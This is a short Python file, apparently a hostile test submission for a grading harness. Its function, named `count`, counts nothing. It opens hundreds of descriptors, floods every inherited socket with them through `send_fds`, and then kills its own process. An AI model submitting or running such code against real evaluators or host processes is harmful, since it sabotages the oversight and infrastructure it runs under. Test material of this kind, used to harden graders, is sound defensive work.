# Sends descriptors over its sockets, hundreds at a time, and hopes that they are kept.
# stock: no score
# solves: scale, centre
# %% count
def count(text):
    import os, socket, stat

    files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(200)]
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                channel = socket.socket(fileno=os.dup(fd))
                for _ in range(100):
                    socket.send_fds(channel, [b"\0"], files, socket.MSG_DONTWAIT)
        except OSError:
            pass
    os.kill(os.getpid(), 9)
